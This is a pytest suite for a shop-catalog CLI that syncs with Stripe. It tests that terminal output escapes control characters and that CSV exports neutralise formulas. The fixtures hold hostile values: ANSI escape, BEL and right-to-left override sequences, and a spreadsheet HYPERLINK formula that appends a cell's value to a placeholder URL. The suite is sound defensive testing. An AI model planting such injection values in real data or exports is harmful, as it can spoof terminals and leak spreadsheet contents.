"""What the command prints never carries a raw control character to the terminal.

A product id or name (from the shop's tables, or from Stripe, where anyone with dashboard access
can rename a product) may hold an ESC sequence, a BEL or a right-to-left override: status, plan,
sync and the error line show them escaped (`\\x1b`, `\\u202e`); `--json` stays valid JSON whose
strings carry them only as escapes; a diff export neutralises what Stripe holds.
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
import stripe

from core.catalog import CatalogStore
from core.cli import main
from core.sandbox import SandboxServer
from tests.raw_sql import run_sql

KEY = "sk_test_cliTerminal12345678"
# Anything a terminal would act on: C0 but the newline ending each line, DEL, C1, bidi controls.
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")

EVIL_ID = "evil\x1b[31m\x07\u202e"
EVIL_ID_SHOWN = "evil\\x1b[31m\\x07\\u202e"
BELL_NAME = "Ding\x07\x1b]0;pwned\x07"
STRIPE_NAME = "\x1b[2J\x07\u202eLamp"
STRIPE_NAME_SHOWN = "\\x1b[2J\\x07\\u202eLamp"
FORMULA = '=HYPERLINK("http://x"&A1,"click")'


@pytest.fixture
def sandbox(monkeypatch: pytest.MonkeyPatch) -> Iterator[SandboxServer]:
    server = SandboxServer(port=0).start()
    monkeypatch.setenv("STRIPE_API_BASE", server.url)
    monkeypatch.setenv("STRIPE_SECRET_KEY", KEY)
    yield server
    server.stop()


@pytest.fixture
def db(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'shop.db'}"
    CatalogStore.open(url).close()
    rows = [
        ("lamp", "Lamp", 4500),
        ("shade", "Shade", 1500),
        (EVIL_ID, "Evil", 100),
        ("bell", BELL_NAME, 100),
    ]
    for pid, name, cents in rows:
        run_sql(
            url,
            "INSERT INTO products (id, name, base_price_cents, sell_status) "
            "VALUES (:id, :name, :cents, 'available')",
            params={"id": pid, "name": name, "cents": cents},
        )
    return url


def _rename_in_stripe(sandbox: SandboxServer, product_id: str, name: str) -> None:
    client = stripe.StripeClient(KEY, base_addresses={"api": sandbox.url})
    client.v1.products.update(product_id, params={"name": name})


def _run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main([*args, "--mode", "test"])
    out, err = capsys.readouterr()
    assert not RAW.search(out), f"raw control character on stdout: {out!r}"
    assert not RAW.search(err), f"raw control character on stderr: {err!r}"
    return code, out, err


def test_status_plan_and_sync_show_hostile_ids_and_names_escaped(
    db: str, sandbox: SandboxServer, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _run(capsys, "sync", "lamp", "shade", "--db", db)[0] == 0
    _rename_in_stripe(sandbox, "lamp", STRIPE_NAME)

    code, out, _ = _run(capsys, "status", "--db", db)
    assert code == 1  # the invalid rows fail
    lines = out.splitlines()
    width = len(EVIL_ID_SHOWN)
    assert lines[0].startswith("PRODUCT".ljust(width) + "  STATE")
    assert lines[1].startswith("bell".ljust(width) + "  failed")
    invalid = "can't sync: the catalog row has invalid values: "
    assert f"{invalid}name: must not contain control characters; found U+0007 " in out
    (evil,) = [line for line in lines if line.startswith(EVIL_ID_SHOWN)]
    assert evil.startswith(EVIL_ID_SHOWN + "  failed")
    assert evil.endswith(
        f"{invalid}id: must not contain control characters; found U+001B (ESC), "
        "U+0007 (BEL), U+202E (RLO). Fix it with `set` or in the shop's database"
    )
    assert any(line.startswith("lamp".ljust(width) + "  differs") for line in lines)

    # The hostile name is a hand edit in Stripe: a plain plan keeps it, and says so escaped.
    code, out, _ = _run(capsys, "plan", "--db", db)
    assert code == 1
    assert "lamp: keeps what was edited in Stripe (name)" in out
    code, out, _ = _run(capsys, "plan", "--overwrite-stripe-edits", "--db", db)
    assert code == 1
    assert (
        f"  - update name “{STRIPE_NAME_SHOWN}” → “Lamp” — overwrites an edit made in Stripe" in out
    )
    assert f"{EVIL_ID_SHOWN}: invalid catalog row (id: must not contain control" in out

    code, out, _ = _run(capsys, "sync", "--all", "--db", db)
    assert code == 1
    assert f"failed   {EVIL_ID_SHOWN}: id: must not contain control characters" in out
    assert "skipped  lamp → lamp (kept Stripe's edit of name)" in out
    code, out, _ = _run(capsys, "sync", "lamp", "--overwrite-stripe-edits", "--db", db)
    assert code == 0
    assert "updated  lamp" in out


def test_json_output_is_valid_json_with_the_characters_only_escaped(
    db: str, sandbox: SandboxServer, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _run(capsys, "sync", "lamp", "--db", db)[0] == 0
    _rename_in_stripe(sandbox, "lamp", STRIPE_NAME + "\x85\x7f")

    code, out, _ = _run(capsys, "status", "--json", "--db", db)
    assert code == 1
    status = {item["id"]: item for item in json.loads(out)}
    assert EVIL_ID in status  # the same value, decoded
    lamp = status["lamp"]["differences"]
    assert {
        "field": "name",
        "local": "Lamp",
        "stripe": STRIPE_NAME + "\x85\x7f",
        "last_written": "Lamp",
        "changed": "stripe",
    } in lamp

    code, out, _ = _run(capsys, "plan", "--json", "--overwrite-stripe-edits", "--db", db)
    plan = json.loads(out)
    (op,) = [o for o in plan["operations"] if o["product_id"] == "lamp"]
    assert op["params"] == {"name": "Lamp"}
    assert STRIPE_NAME in op["summary"]
    failed = {item["id"]: item["error"] for item in plan["failed"]}
    assert failed[EVIL_ID].startswith("id: must not contain control characters; found U+001B")


def test_diff_export_neutralises_what_stripe_holds(
    db: str, sandbox: SandboxServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _run(capsys, "sync", "shade", "--db", db)[0] == 0
    _rename_in_stripe(sandbox, "shade", FORMULA)
    diff = tmp_path / "diff.csv"
    assert _run(capsys, "export", str(diff), "--diff", "--db", db)[0] == 0
    with diff.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row)
    assert rows[-1][:7] == ["shade", "differs", "name", "Shade", "'" + FORMULA, "Shade", "stripe"]


def test_an_error_line_shows_control_characters_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "bad\x1b[8m.csv"
    bad.write_text("id,name,sell_status,\x1b[31mcolour\u202e\nlamp,Lamp,available,red\n")
    db = f"sqlite:///{tmp_path / 'shop.db'}"
    code, out, err = _run(capsys, "import", str(bad), "--db", db)
    assert code == 2 and out == ""
    assert err == (
        "bad\\x1b[8m.csv: row 1 (id lamp): field \\x1b[31mcolour\\u202e: is not a known column. "
        "Nothing was imported; fix the file and import it again.\n"
    )
